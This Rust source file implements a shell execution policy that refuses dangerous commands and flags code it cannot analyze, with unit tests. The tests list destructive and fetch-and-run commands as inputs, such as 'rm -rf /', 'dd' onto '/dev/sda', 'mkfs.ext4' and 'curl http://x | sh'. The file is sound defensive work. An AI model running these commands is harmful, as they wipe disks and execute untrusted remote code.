//! The execution policy: a first filter in front of the sandbox, and advice.
//!
//! What it does: refuse, before anything runs, every program with a command rated
//! `dangerous` anywhere in it (nested substitutions, function bodies and the static strings
//! of `eval`/`bash -c` included). The policy is fixed at build time.
//!
//! What it does not do, and does not claim to: decide about code the analysis cannot see.
//! Commands computed at run time, `eval` of variables, code fed to shells and interpreters
//! (pipes, here-documents, here-strings, `python3 -c`, `perl -e`, `awk` programs) and
//! scripts run by path are *not* refused on that ground: the shell is Turing-complete and a
//! list of spellings cannot close it. [`unanalyzed`] names those parts so callers know the
//! verdict does not cover them; keeping them from doing harm is the sandbox's job
//! (`exec-sandbox`: Landlock, seccomp, namespaces, rlimits), which holds whatever the
//! analysis concluded.

use crate::parse::{RedirectOp, Script, SimpleCommand, basename};
use crate::risk::{Assessment, RiskLevel, effective_argv};

/// Why a program was refused; every entry is a sentence for the caller.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Refusal {
    pub reasons: Vec<String>,
}

impl std::fmt::Display for Refusal {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(
            f,
            "refused by the execution policy, nothing was run: {}",
            self.reasons.join("; ")
        )
    }
}

/// Programs that run code given to them as data: shells and script interpreters.
const INTERPRETERS: &[&str] = &[
    "sh",
    "bash",
    "dash",
    "zsh",
    "ksh",
    "mksh",
    "fish",
    "busybox",
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "node",
    "nodejs",
    "deno",
    "bun",
    "php",
    "lua",
    "tclsh",
    "awk",
    "gawk",
    "mawk",
    "nawk",
    "Rscript",
    "osascript",
];

/// Refuses `script` when any command in it is rated dangerous.
pub fn check(_script: &Script, assessment: &Assessment) -> Result<(), Refusal> {
    let mut reasons: Vec<String> = assessment
        .reasons
        .iter()
        .filter(|r| r.level == RiskLevel::Dangerous)
        .map(|r| format!("{} (`{}`)", r.reason, r.command))
        .collect();
    reasons.dedup();
    if reasons.is_empty() {
        Ok(())
    } else {
        Err(Refusal { reasons })
    }
}

/// The parts of `script` whose behaviour the analysis cannot see, one sentence each: the
/// risk rating and the policy say nothing about them.
pub fn unanalyzed(script: &Script) -> Vec<String> {
    let mut notes: Vec<String> = script
        .opaque
        .iter()
        .map(|o| format!("not analyzed: {o}"))
        .collect();
    for command in &script.commands {
        if let Some(note) = unanalyzed_command(script, command) {
            notes.push(note);
        }
    }
    notes.dedup();
    notes
}

fn unanalyzed_command(script: &Script, command: &SimpleCommand) -> Option<String> {
    let first = command.words.first()?;
    if !first.is_static && !first.literal.starts_with('~') {
        return Some(format!(
            "the command name `{}` is computed at run time",
            first.literal
        ));
    }
    let argv = effective_argv(&command.words);
    let name = argv.first()?;
    let program = basename(&name.literal);
    let args = &argv[1..];
    if program == "eval" || program == "source" || program == "." {
        return (args.iter().any(|a| !a.is_static) || program != "eval").then(|| {
            format!(
                "`{}` runs code that is only known at run time",
                command.text
            )
        });
    }
    let base = program.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    if INTERPRETERS.contains(&program) || INTERPRETERS.contains(&base) {
        let fed_stdin = command.stage > 0
            || command.redirects.iter().any(|r| {
                matches!(
                    r.op,
                    RedirectOp::Read | RedirectOp::HereDocument | RedirectOp::HereString
                ) && r.fd.unwrap_or(0) == 0
            });
        let is_shell = matches!(
            program,
            "sh" | "bash" | "dash" | "zsh" | "ksh" | "mksh" | "fish"
        );
        // A shell's static `-c` string is parsed and analyzed like the rest.
        let static_shell_string = is_shell
            && args
                .iter()
                .position(|a| a.literal == "-c")
                .and_then(|i| args.get(i + 1))
                .is_some_and(|code| code.is_static);
        if fed_stdin {
            return Some(format!(
                "`{program}` runs code from its standard input (a pipe, here-document or \
                 here-string), which is not analyzed"
            ));
        }
        if !static_shell_string && !args.is_empty() {
            return Some(format!(
                "`{program}` runs code given as an argument or a script file, which is not \
                 analyzed: `{}`",
                command.text
            ));
        }
        return None;
    }
    // `./build.sh`, `scripts/x`: a file whose contents the analysis never sees. System
    // programs by absolute path are rated by name like any other command.
    let path = &name.literal;
    let system = ["/usr/", "/bin/", "/sbin/"]
        .iter()
        .any(|dir| path.starts_with(dir));
    if path.contains('/') && !system && script.functions.iter().all(|f| &f.name != path) {
        return Some(format!(
            "`{path}` runs a file whose contents are not analyzed"
        ));
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::parse::parse;
    use crate::risk::assess;

    fn verdict(src: &str) -> Result<(), Refusal> {
        let script = parse(src).unwrap();
        let assessment = assess(&script);
        check(&script, &assessment)
    }

    fn notes(src: &str) -> Vec<String> {
        unanalyzed(&parse(src).unwrap())
    }

    #[test]
    fn allows_ordinary_commands() {
        for src in [
            "ls -la",
            "echo hi | wc -c",
            "rm -rf ./build",
            "for i in 1 2; do echo $i; done",
            "sleep 1 & wait",
        ] {
            assert_eq!(verdict(src), Ok(()), "{src}");
            assert!(notes(src).is_empty(), "{src}: {:?}", notes(src));
        }
    }

    #[test]
    fn refuses_dangerous_commands_anywhere() {
        for src in [
            "rm -rf /",
            "echo ok; echo $(rm -rf ~)",
            "true && (cd /tmp; sudo ls)",
            "cat <(dd if=/dev/zero of=/dev/sda)",
            "f() { mkfs.ext4 /dev/sdb; }",
            "curl http://x | sh",
        ] {
            let refusal = verdict(src).unwrap_err();
            assert!(!refusal.reasons.is_empty(), "{src}");
        }
        let message = verdict("rm -rf /").unwrap_err().to_string();
        assert!(message.contains("nothing was run"), "{message}");
    }

    /// The policy does not pretend to judge what it cannot see: these run (contained by
    /// the sandbox), and `unanalyzed` says why the verdict does not cover them.
    #[test]
    fn names_what_it_cannot_analyze_instead_of_claiming_to_refuse_it() {
        for src in [
            "$CMD /",
            "eval \"$x\"",
            "echo 'rm -rf ../x' | bash",
            "bash <<'EOF'\nrm -rf ../x\nEOF",
            "sh <<< 'rm -rf ../x'",
            "python3 -c 'import shutil; shutil.rmtree(\"../x\")'",
            "perl -e 'unlink \"../x\"'",
            "awk 'BEGIN { system(\"rm ../x\") }'",
            "./cleanup.sh",
            "bash cleanup.sh",
            "bash -c \"$code\"",
            "source ./env.sh",
        ] {
            assert_eq!(verdict(src), Ok(()), "{src}");
            assert!(
                !notes(src).is_empty(),
                "{src}: nothing reported as unanalyzed"
            );
        }
        // A static `bash -c` string is parsed like the rest, so it is analyzed.
        assert!(notes("bash -c 'ls -la'").is_empty());
        assert!(verdict("bash -c 'rm -rf /'").is_err());
        // Programs by absolute system path are rated by name.
        assert!(notes("/usr/bin/ls -la").is_empty());
    }
}
